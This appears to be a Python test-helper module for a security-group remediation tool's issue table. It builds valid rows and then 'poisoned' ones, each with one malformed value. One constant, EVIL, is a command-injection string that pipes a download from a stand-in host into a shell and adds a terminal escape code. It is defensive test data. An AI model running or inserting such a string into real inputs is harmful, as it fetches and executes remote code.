"""Rows of the issue table that somebody else wrote: each attribute, with a value that it cannot have."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from decimal import Decimal
from typing import Any

from library.issues.change_notifications import new_notification
from library.issues.issue import ClosingNotice
from tests.builders.issues import NOW, an_issue

MAIN, REGION = "123456789012", "eu-west-1"
EVIL = "x; curl https://evil.example | sh #\x1b[31m"
WRONG: tuple[Any, ...] = (None, EVIL, 7, ["x"], {"x": "y"})
MORE_WRONG: dict[str, Any] = {
    "null": None,
    "text": EVIL,
    "number": 7,
    "list of texts": ["x"],
    "map of texts": {"x": "y"},
    "nothing": "",
    "yes": True,
    "negative": -1,
    "huge": 10**30,
    "fraction": Decimal("1.5"),
    "far future": "9999-12-31T23:59:59+00:00",
    "no day": "2026-13-45T00:00:00+00:00",
    "without zone": "2026-11-01T00:00:00",
    "list of maps": [{}],
    "list of nulls": [None],
    "map of nulls": {"x": None},
}
KEYS_OF_INDEXES = ("status", "open_region")  # which DynamoDB takes as texts only
RULE = {
    "protocol": "tcp",
    "from_port": 22,
    "to_port": 22,
    "cidr": "10.1.2.0/24",
    "description": "theirs",
    "rule_id": "sgr-1",
}


def row(group: str) -> dict[str, Any]:
    """An honest row that has every attribute."""
    at = NOW - timedelta(days=30)
    notification = new_notification(3, at, "Remediated", "Hammer closed the group", ("tcp/22",))
    issue = replace(
        an_issue(
            account_id=MAIN, issue_id=group, change_notifications=(notification,), closing_notice=ClosingNotice(at, 3)
        ),
        jira_details={"ticket": "SEC-1", "occurrence": 3, "digest": "x", "told": ["x"], "still": {}, "intent": {}},
        slack_details={"digest": "x", "occurrence": 3, "heard": {"#hammer": "x"}, "reminded": None},
    )
    journal = {
        "kind": "remediation",
        "step": "verifying",
        "backup": f"security_groups/{MAIN}/{REGION}/{group}_20261101T000000.000000Z.json",
        "add": [{**RULE, "state": "added", "replaces": [], "at": ""}],
        "revoke": [],
    }
    return issue.to_item() | {
        "open_region": REGION,
        "remediation_details": {
            "journal": journal,
            "backup": journal["backup"],
            "restored": None,
            "told": "x",
            "named": "x",
            "refused": {"at": "2026-11-01T00:00:00+00:00", "attempt": "x", "reason": "x"},
        },
        "exposures_told": {"at": {}, "occurrence": 3},
        "open_at_report": ["tcp/22 0.0.0.0/0"],
        "opened_by": {"principal": "ana", "event_time": "2026-11-01T00:00:00+00:00"},
        "used_by": {"users": [], "total": 0},
        "history": [],
        "looked_up": 3,
        "last_seen": "2026-11-01T00:00:00+00:00",
        "use": {"occurrence": 3, "gaps": []},
        "source": {"group": {"kind": "x"}, "rules": [], "diff": "", "diff_lines": 0, "commands": [], "before_diff": []},
        "decisions": [],
        "decision_state": {},
        "decision_version": 0,
    }


def paths(item: dict[str, Any], depth: int = 3) -> Iterator[tuple[Any, ...]]:
    """Every attribute of a row, with those of its maps, and of the first entries of its lists."""
    for name, value in item.items():
        if name in ("account_id", "issue_id"):
            continue
        yield (name,)
        inner = (0, value[0]) if isinstance(value, list) and value and isinstance(value[0], dict) else None
        if isinstance(value, dict) and depth:
            yield from ((name, *path) for path in paths(value, depth - 1))
        elif inner and depth:
            yield from ((name, 0, *path) for path in paths(inner[1], depth - 1))


def poisoned(group: str, path: tuple[Any, ...], wrong: Any) -> dict[str, Any]:
    """A row with one wrong value."""
    item = row(group)
    location: Any = item
    for name in path[:-1]:
        location = location[name]
    location[path[-1]] = wrong
    return item


def every_case() -> list[tuple[tuple[Any, ...], str, Any]]:
    """Each attribute with each wrong value, and that value's name."""
    return [
        (path, name, wrong)
        for path in paths(row("sg-1"))
        for name, wrong in MORE_WRONG.items()
        if path[0] not in KEYS_OF_INDEXES or (wrong and isinstance(wrong, str))
    ]


def cases() -> list[tuple[tuple[Any, ...], Any]]:
    """Each attribute, and each in a map of the row, with one wrong value: they take turns."""
    found = [path for path in paths(row("sg-1")) if len(path) <= 2]
    return [
        (path, EVIL if path[0] in KEYS_OF_INDEXES else WRONG[number % len(WRONG)]) for number, path in enumerate(found)
    ]
